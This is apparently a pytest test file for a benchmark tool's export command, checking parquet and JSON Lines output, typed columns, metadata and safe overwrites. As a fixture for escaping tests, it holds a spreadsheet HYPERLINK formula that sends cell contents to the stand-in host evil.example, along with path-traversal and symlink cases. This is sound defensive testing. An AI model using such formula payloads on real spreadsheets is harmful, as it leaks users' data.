"""Issue 20, item 3: ``xaibench export RUN_DIR --format parquet|jsonl``.

The run's own tables are ``results.json`` (records, cells, analysis tables) and the per-image
CSV files; an export must hold the same values with typed columns, say where it came from, and
be readable by pandas and by Hugging Face ``datasets`` in an interpreter where xaibench cannot
be imported.
"""

from __future__ import annotations

import json
import math
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest
from cli_runs import TINY_PHANTOM_RUN, cli

from xaibench.engine.results import SCHEMA_VERSION
from xaibench.errors import XaibenchError
from xaibench.export import EXPORT_INDEX, METADATA_KEY, export_run, run_tables

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
QUOTED = "'already quoted"


@pytest.fixture(scope="module")
def tiny_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One tiny phantom run (one cell), made once for the module."""
    from xaibench.config import resolve_config
    from xaibench.engine.benchmark import run_benchmark
    from xaibench.plugins import collect_components, get_plugin_manager

    run_dir = tmp_path_factory.mktemp("export") / "run"
    components = collect_components(get_plugin_manager(entry_points=False))
    config = resolve_config(
        TINY_PHANTOM_RUN,
        {
            "saliency": ["random"],
            "perturbations": ["zero"],
            "metrics": ["auc", "macro_auc", "accuracy", "delta_region", "iou_region"],
            "explain_regions": ["bone"],
            "perturb_regions": ["bone"],
            "complement_regions": [],
        },
    )
    run_benchmark(config, components, run_dir)
    return run_dir


@pytest.fixture(scope="module")
def exports(tiny_run: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("exports")
    return {fmt: export_run(tiny_run, fmt, base / fmt) for fmt in ("parquet", "jsonl")}


def _index(folder: Path) -> dict:
    return json.loads((folder / EXPORT_INDEX).read_text())


def _read_jsonl(folder: Path, name: str) -> pd.DataFrame:
    """How docs/results-schema.md reads a JSON Lines table back with pandas."""
    table = _index(folder)["tables"][name]
    frame = pd.read_json(folder / table["file"], lines=True, dtype=False, precise_float=True)
    return frame.astype(table["columns"])


def test_tables_are_the_runs_own(tiny_run: Path):
    """The exported frames hold results.json's and the CSV files' values, typed."""
    document = json.loads((tiny_run / "results.json").read_text())
    _, tables = run_tables(tiny_run)
    assert {"records", "cells", "predictions", "explanations", "per_class"} <= set(tables)
    records = tables["records"]
    assert len(records) == len(document["records"])
    for row, record in zip(records.to_dict("records"), document["records"], strict=True):
        for key in ("backbone", "metric", "seed", "status", "n"):
            assert row[key] == record[key]
        for key in ("value", "ci_low", "ci_high"):
            expected = record[key]
            assert math.isnan(row[key]) if expected is None else row[key] == expected, key
        assert json.loads(row["details"]) == record["details"]
    assert records["seed"].dtype == "int64"
    assert records["value"].dtype == "float64"
    assert records["random_init"].dtype == "bool"
    # the per-image tables: the CSV's cells, read independently here
    raw = pd.read_csv(tiny_run / "predictions.csv", keep_default_na=False, dtype=str)
    predictions = tables["predictions"]
    assert len(predictions) == len(raw)
    assert predictions["sample_id"].tolist() == raw["sample_id"].tolist()
    assert predictions["perturbation"].tolist() == raw["perturbation"].tolist()
    assert predictions["prob_normal"].tolist() == [float(x) for x in raw["prob_normal"]]
    assert predictions["label"].dtype == "int64"
    assert predictions["called_positive"].dtype == "bool"
    raw = pd.read_csv(tiny_run / "explanations.csv", keep_default_na=False, dtype=str)
    values = tables["explanations"]["value"]
    assert values.dtype == "float64"
    assert [None if math.isnan(v) else v for v in values] == [
        None if x == "" else float(x) for x in raw["value"]
    ]
    per_class = tables["per_class"]
    assert per_class["tp"].dtype == "int64"
    assert per_class["reason"].dtype == "str"  # all null here, still a text column
    assert per_class.to_dict("records")[0]["class"] == document["analysis"]["per_class"][0]["class"]


def test_parquet_round_trip_and_metadata(tiny_run: Path, exports: dict[str, Path]):
    document = json.loads((tiny_run / "results.json").read_text())
    _, tables = run_tables(tiny_run)
    folder = exports["parquet"]
    index = _index(folder)
    assert set(index["tables"]) == set(tables)
    for name, frame in tables.items():
        path = folder / f"{name}.parquet"
        pd.testing.assert_frame_equal(pd.read_parquet(path), frame, check_exact=True)
        meta = json.loads(pq.read_schema(path).metadata[METADATA_KEY.encode()])
        assert meta["table"] == name
        assert meta["schema_version"] == SCHEMA_VERSION == document["schema_version"]
        assert meta["config_hash"] == document["config_hash"]
        assert meta["xaibench_version"] == document["environment"]["xaibench_version"]
        assert index["tables"][name]["rows"] == len(frame)
    assert index["schema_version"] == SCHEMA_VERSION
    assert index["config_hash"] == document["config_hash"]
    assert index["format"] == "parquet"
    # NaN is a null in the file, not a NaN value
    values = pq.read_table(folder / "records.parquet").column("ci_low")
    assert values.null_count == int(tables["records"]["ci_low"].isna().sum()) > 0
    assert str(tiny_run.parent) not in (folder / EXPORT_INDEX).read_text()  # no absolute path


def test_jsonl_round_trip(tiny_run: Path, exports: dict[str, Path]):
    _, tables = run_tables(tiny_run)
    folder = exports["jsonl"]
    assert _index(folder)["format"] == "jsonl"
    for name, frame in tables.items():
        pd.testing.assert_frame_equal(_read_jsonl(folder, name), frame, check_exact=True)
    first = json.loads((folder / "records.jsonl").read_text().splitlines()[0])
    assert isinstance(first["seed"], int)
    assert isinstance(first["details"], str)


#: Run in ``python -I`` with every ``xaibench`` import refused: what a user without xaibench has.
_DATASETS_SCRIPT = textwrap.dedent(
    """
    import json, sys

    class Refuse:
        def find_spec(self, name, path=None, target=None):
            if name.split(".")[0].startswith("xaibench"):
                raise ModuleNotFoundError(name)

    sys.meta_path.insert(0, Refuse())
    try:
        import xaibench
    except ModuleNotFoundError:
        pass
    else:
        raise SystemExit("xaibench is importable")
    import datasets

    out = {}
    for fmt, loader in (("parquet", "parquet"), ("jsonl", "json")):
        folder = sys.argv[1] + "/" + fmt
        index = json.load(open(folder + "/export.json"))
        for name, table in index["tables"].items():
            files = folder + "/" + table["file"]
            features = datasets.Features.from_dict(table["features"])
            for typed in (False, True):
                options = {"features": features} if typed else {}
                ds = datasets.load_dataset(loader, data_files=files, split="train",
                                           cache_dir=sys.argv[2], **options)
                out[f"{fmt}/{name}/{typed}"] = {
                    "rows": ds.num_rows,
                    "dtypes": {k: v.dtype for k, v in ds.features.items()},
                    "nulls": {k: sum(x is None for x in ds[k]) for k in ds.column_names},
                    "first": ds[0],
                }
    print(json.dumps(out))
    print(json.dumps(sorted(m for m in sys.modules if m.startswith("xaibench"))))
    """
)


def test_datasets_reads_the_export_without_xaibench(
    tiny_run: Path, exports: dict[str, Path], tmp_path: Path
):
    pytest.importorskip("datasets")
    _, tables = run_tables(tiny_run)
    script = tmp_path / "read.py"
    script.write_text(_DATASETS_SCRIPT)
    folder = exports["parquet"].parent
    proc = subprocess.run(
        [sys.executable, "-I", str(script), str(folder), str(tmp_path / "hf")],
        capture_output=True, text=True, cwd=tmp_path, timeout=300, check=False,
        env={"HF_DATASETS_OFFLINE": "1", "HF_HUB_OFFLINE": "1", "HF_HOME": str(tmp_path / "hf")},
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    lines = proc.stdout.strip().splitlines()
    assert json.loads(lines[-1]) == []  # nothing of xaibench was imported
    found = json.loads(lines[-2])
    arrow = {
        "int64": "int64",
        "Int64": "int64",
        "float64": "float64",
        "bool": "bool",
        "boolean": "bool",
    }
    for name, frame in tables.items():
        expected = {c: arrow.get(str(frame[c].dtype), "string") for c in frame.columns}
        nulls = {c: int(frame[c].isna().sum()) for c in frame.columns}
        for key in (f"parquet/{name}/False", f"parquet/{name}/True", f"jsonl/{name}/True"):
            assert found[key]["rows"] == len(frame), key
            assert found[key]["dtypes"] == expected, key
            assert found[key]["nulls"] == nulls, key
        # without features, the JSON reader types every column that holds a value the same way
        plain = found[f"jsonl/{name}/False"]
        assert plain["rows"] == len(frame)
        for column, dtype in expected.items():
            assert plain["dtypes"][column] == (dtype if nulls[column] < len(frame) else "null")
    first = found["parquet/records/False"]["first"]
    assert first == found["jsonl/records/True"]["first"]
    assert first["value"] == tables["records"]["value"][0]


def _hostile_copy(tiny_run: Path, out: Path) -> Path:
    """The tiny run rewritten with formula-looking labels (written through escape.to_csv)."""
    from xaibench.engine.results import write_run
    from xaibench.report.run_files import load_run

    loaded = load_run(tiny_run)
    document = json.loads((tiny_run / "results.json").read_text())
    for record in document["records"]:
        record["backbone"] = FORMULA
    document["analysis"]["per_class"][0]["class"] = QUOTED

    class Result:
        predictions = [loaded.predictions.assign(backbone=FORMULA, sample_id=QUOTED)]
        explanations = [loaded.explanations.assign(saliency=FORMULA)]

    write_run(out, document, [Result()])  # type: ignore[list-item]
    return out


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_formula_looking_text_round_trips_unescaped(tiny_run: Path, tmp_path: Path, fmt: str):
    run = _hostile_copy(tiny_run, tmp_path / "hostile")
    csv_text = (run / "predictions.csv").read_text()
    assert "'" + FORMULA.replace('"', '""') in csv_text  # the CSV holds the escaped text
    assert "''already quoted" in csv_text
    folder = export_run(run, fmt)
    assert folder == run / "export"

    def table(name: str) -> pd.DataFrame:
        if fmt == "parquet":
            return pd.read_parquet(folder / f"{name}.parquet")
        return _read_jsonl(folder, name)

    assert set(table("predictions")["backbone"]) == {FORMULA}
    assert set(table("predictions")["sample_id"]) == {QUOTED}
    assert set(table("explanations")["saliency"]) == {FORMULA}
    assert set(table("records")["backbone"]) == {FORMULA}
    assert table("per_class")["class"][0] == QUOTED


def test_existing_export_refused_unless_overwrite(tiny_run: Path, tmp_path: Path):
    out = tmp_path / "out"
    export_run(tiny_run, "parquet", out)
    before = (out / "records.parquet").read_bytes()
    with pytest.raises(XaibenchError, match=r"already holds files.*--overwrite"):
        export_run(tiny_run, "jsonl", out)
    assert (out / "records.parquet").read_bytes() == before  # untouched
    (out / "notes.txt").write_text("mine")
    export_run(tiny_run, "jsonl", out, overwrite=True)
    names = sorted(p.name for p in out.iterdir())
    assert "notes.txt" in names  # not ours: kept
    assert not [n for n in names if n.endswith(".parquet")]  # the earlier export's: removed
    assert _index(out)["format"] == "jsonl"
    assert len([n for n in names if n.endswith(".jsonl")]) == len(_index(out)["tables"])


def test_bad_run_dir_is_one_line(tmp_path: Path):
    (tmp_path / "empty").mkdir()
    for target, message in (("missing", "no such run directory"), ("empty", "no results.json")):
        proc = cli("export", target, "--format", "jsonl", cwd=tmp_path)
        assert proc.returncode == 2
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1
        assert lines[0].startswith("xaibench: error: ")
        assert message in lines[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty"]  # nothing written


def test_cli_exports_into_run_dir(tiny_run: Path, tmp_path: Path):
    run = tmp_path / "run"
    shutil.copytree(tiny_run, run)
    proc = cli("export", str(run), "--format", "jsonl", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert (run / "export" / EXPORT_INDEX).is_file()
    proc = cli("export", str(run), "--format", "jsonl", cwd=tmp_path)
    assert proc.returncode == 2
    assert "--overwrite" in proc.stderr
    proc = cli("export", str(run), "--format", "jsonl", "--overwrite", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr


def test_planted_export_symlink_is_refused(tiny_run: Path, tmp_path: Path):
    run = tmp_path / "run"
    shutil.copytree(tiny_run, run, ignore=shutil.ignore_patterns("export"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (run / "export").symlink_to(elsewhere)
    with pytest.raises(XaibenchError, match="leads outside"):
        export_run(run, "jsonl")
    assert not any(elsewhere.iterdir())


def test_missing_pyarrow_names_the_extra(tiny_run: Path, tmp_path: Path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(XaibenchError, match=r"pip install 'xaibench\[export\]'"):
        export_run(tiny_run, "parquet", tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_docs_example_runs_without_xaibench(exports: dict[str, Path], tmp_path: Path):
    """docs/results-schema.md's "Exporting results" example, in an interpreter without xaibench."""
    pytest.importorskip("datasets")
    docs = (Path(__file__).parents[1] / "docs" / "results-schema.md").read_text()
    section = docs.split("## Exporting results", 1)[1]
    example = section.split("```python\n", 1)[1].split("```", 1)[0]
    shutil.copytree(exports["parquet"], tmp_path / "run" / "export")
    shutil.copytree(exports["jsonl"], tmp_path / "run" / "export-jsonl")
    prelude = _DATASETS_SCRIPT.split("import datasets", 1)[0]  # refuse xaibench, check it
    script = tmp_path / "example.py"
    script.write_text(prelude + example + "\nprint(len(records), len(predictions), len(jsonl))\n")
    proc = subprocess.run(
        [sys.executable, "-I", str(script)],
        capture_output=True, text=True, cwd=tmp_path, timeout=300, check=False,
        env={"HF_DATASETS_OFFLINE": "1", "HF_HUB_OFFLINE": "1", "HF_HOME": str(tmp_path / "hf")},
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    index = _index(exports["parquet"])["tables"]
    counts = [index[name]["rows"] for name in ("records", "predictions", "records")]
    assert proc.stdout.split() == [str(n) for n in counts]


def test_columns_are_typed_by_their_values():
    from xaibench.export import rows_frame

    rows = [
        {"i": 1, "f": 1, "n": None, "b": True, "t": "x", "mixed": "x", "obj": {"k": [1]}},
        {"i": 2, "f": 2.5, "n": None, "b": None, "t": None, "mixed": 3},
        {"i": None, "f": float("nan"), "extra": "late"},
    ]
    frame = rows_frame(rows)
    assert list(frame.columns) == ["i", "f", "n", "b", "t", "mixed", "obj", "extra"]
    dtypes = {c: str(frame[c].dtype) for c in frame.columns}
    assert dtypes == {"i": "Int64", "f": "float64", "n": "float64", "b": "boolean", "t": "str",
                      "mixed": "str", "obj": "str", "extra": "str"}  # fmt: skip
    assert frame["f"].tolist()[:2] == [1.0, 2.5]
    assert frame["f"].isna().tolist() == [False, False, True]
    assert frame["mixed"].tolist()[:2] == ['"x"', "3"]  # JSON text: "x" and 3 stay apart
    assert frame["mixed"].isna().tolist() == [False, False, True]
    assert json.loads(frame["obj"][0]) == {"k": [1]}
    assert frame.attrs["json_columns"] == ["mixed", "obj"]
    # a forced kind holds where every value is null, and gives way to values of another kind
    forced = rows_frame([{"a": None, "b": "text"}], {"a": "str", "b": "int"})
    assert str(forced["a"].dtype) == "str"
    assert forced.attrs["json_columns"] == ["b"]


def test_analysis_table_names_must_be_plain(tiny_run: Path, tmp_path: Path):
    run = tmp_path / "run"
    shutil.copytree(tiny_run, run, ignore=shutil.ignore_patterns("export"))
    document = json.loads((run / "results.json").read_text())
    document["analysis"]["../evil"] = [{"a": 1}]
    (run / "results.json").write_text(json.dumps(document))
    with pytest.raises(XaibenchError, match=r"results\.json: analysis table '\.\./evil'"):
        export_run(run, "jsonl")
    assert not (run / "export").exists()
    assert not (tmp_path / "evil.jsonl").exists()


def test_a_run_being_written_is_refused(tiny_run: Path, tmp_path: Path):
    from test_run_folder_lock import held_elsewhere

    run = tmp_path / "run"
    shutil.copytree(tiny_run, run, ignore=shutil.ignore_patterns("export"))
    with held_elsewhere(run), pytest.raises(XaibenchError, match="a run is being written there"):
        export_run(run, "jsonl")
    assert not (run / "export").exists()


def test_overwrite_removes_only_table_files_the_earlier_export_listed(
    tiny_run: Path, tmp_path: Path
):
    out = tmp_path / "out"
    export_run(tiny_run, "jsonl", out)
    index = _index(out)
    (out / "mine.txt").write_text("mine")
    index["tables"]["records"]["file"] = "mine.txt"  # a tampered index cannot name other files
    (out / EXPORT_INDEX).write_text(json.dumps(index))
    export_run(tiny_run, "parquet", out, overwrite=True)
    assert (out / "mine.txt").read_text() == "mine"
    index["tables"]["records"]["file"] = "../outside.jsonl"
    (out / EXPORT_INDEX).write_text(json.dumps(index))
    with pytest.raises(XaibenchError, match="leads outside"):
        export_run(tiny_run, "parquet", out, overwrite=True)
